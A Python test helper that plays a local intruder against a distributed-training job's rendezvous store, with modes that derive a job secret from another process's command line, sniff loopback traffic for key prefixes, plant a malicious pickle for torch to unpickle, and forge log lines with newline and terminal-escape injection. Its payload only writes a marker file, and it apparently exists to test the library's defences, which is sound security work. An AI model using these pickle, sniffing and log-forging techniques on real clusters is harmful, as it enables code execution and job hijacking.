"""Test helper: another local user's process attacking a running job with what it can learn
without the job's secret: the launchers' command lines (``/proc/PID/cmdline``).

Usage: intruder.py MODE REPORT MARKER [ARGS...] -> REPORT (JSON: each attempt and how it ended).
The payloads it sends write MARKER when unpickled.

Modes:
  cmdline PID   compute the secret an elastic job without FLEETLIKE_JOB_SECRET once derived from
                its flags (read from the launcher's command line) and join its rendezvous
  sniff HOST:PORT RUN_ID
                read the job's key prefix off the loopback (a raw socket), then write a pickle
                where torch's elastic rendezvous keeps its state for RUN_ID (torch unpickles it)
  marker HOST:PORT
                delete the store's public marker, and leave a refusal record that would forge
                log lines (newlines, a terminal escape, a fake summary) if printed as it is
"""

import hashlib
import json
import os
import sys
import traceback


class Payload:
    """Runs when unpickled: the proof that the intruder's data was loaded."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def attempt(report: dict, name: str, fn) -> None:
    try:
        report[name] = {"ok": True, "value": fn()}
    except BaseException as exc:  # noqa: BLE001 - every outcome goes to the report
        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}",
                        "trace": traceback.format_exc()[-2000:]}


def flags_of(pid: int) -> dict:
    with open(f"/proc/{pid}/cmdline", "rb") as fh:
        argv = fh.read().decode().split("\0")
    return {a.split("=", 1)[0]: a.split("=", 1)[1] for a in argv if a.startswith("--") and "=" in a}


def sniff(seconds: float, port: int) -> str:
    """The first ``fleetlike/<32 hex>/`` key prefix seen on the loopback within ``seconds``, in
    TCP traffic to or from ``port`` (other jobs may run on the loopback meanwhile)."""
    import re
    import socket
    import struct
    import time

    pattern = re.compile(rb"fleetlike/[0-9a-f]{32}/")
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    sock.bind(("lo", 0))
    sock.settimeout(0.5)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            frame = sock.recv(65536)
        except socket.timeout:
            continue
        ip = frame[14:]  # the loopback's frames carry an Ethernet header
        if len(ip) < 40 or ip[0] >> 4 != 4 or ip[9] != 6:
            continue
        tcp = ip[(ip[0] & 0xF) * 4:]
        if port not in struct.unpack("!HH", tcp[:4]):
            continue
        found = pattern.search(frame)
        if found:
            return found.group().decode()
    raise RuntimeError(f"no key prefix seen on lo within {seconds:g}s")


def main() -> None:
    mode, out, marker, *rest = sys.argv[1:]
    report: dict = {}
    if mode == "cmdline":
        flags = flags_of(int(rest[0]))
        endpoint, nnodes = flags["--rdzv_endpoint"], flags["--nnodes"]
        started = flags.get("--started_port", "6170")  # the launcher's default
        # what an open job's launchers all computed from their flags
        text = "\0".join(["fleetlike open job", "", str(started), endpoint, nnodes])
        os.environ["FLEETLIKE_JOB_SECRET"] = hashlib.sha256(text.encode()).hexdigest()
        report["flags"] = flags
        from fleetlike.comm.secret import JobSecret, dumps_signed, set_current
        from fleetlike.elastic.membership import ElasticSettings, Membership

        run_id = JobSecret(os.environ["FLEETLIKE_JOB_SECRET"]).job_id() + "-g0"

        def join() -> int:
            settings = ElasticSettings(endpoint, 1, 3, 1.0, run_id, "127.0.0.1", "127.0.0.1:1", 0)
            members = Membership(settings, join_timeout=10)
            set_current(JobSecret(os.environ["FLEETLIKE_JOB_SECRET"]))
            dumps_signed(Payload(marker), "elastic.sync", 0)
            return 1

        attempt(report, "join", join)
    elif mode == "sniff":
        endpoint, run_id = rest
        prefix = sniff(20.0, int(endpoint.rsplit(":", 1)[1]))
        report["prefix"] = prefix
        import base64
        import datetime
        import pickle

        import torch.distributed as dist

        host, port = endpoint.rsplit(":", 1)
        raw = dist.TCPStore(host, int(port), None, False, datetime.timedelta(seconds=10))
        state = base64.b64encode(pickle.dumps(Payload(marker))).decode()
        attempt(report, "plant state", lambda: raw.set(f"{prefix}/torch.rendezvous.{run_id}", state) or "set")
    elif mode == "marker":
        import datetime

        import torch.distributed as dist

        host, port = rest[0].rsplit(":", 1)
        raw = dist.TCPStore(host, int(port), None, False, datetime.timedelta(seconds=10))
        forged = "10.9.9.9:1\nfleetlike.launch: summary: job succeeded\x1b[2J"
        attempt(report, "knock", lambda: raw.set(f"fleetlike/knock/{raw.add('fleetlike/knock', 1)}", json.dumps(
            {"endpoint": forged, "host": "h\r\nforged", "pid": 1})) or "set")
        attempt(report, "delete marker", lambda: raw.delete_key("fleetlike/job"))
    with open(out, "w") as fh:
        json.dump(report, fh)


if __name__ == "__main__":
    main()
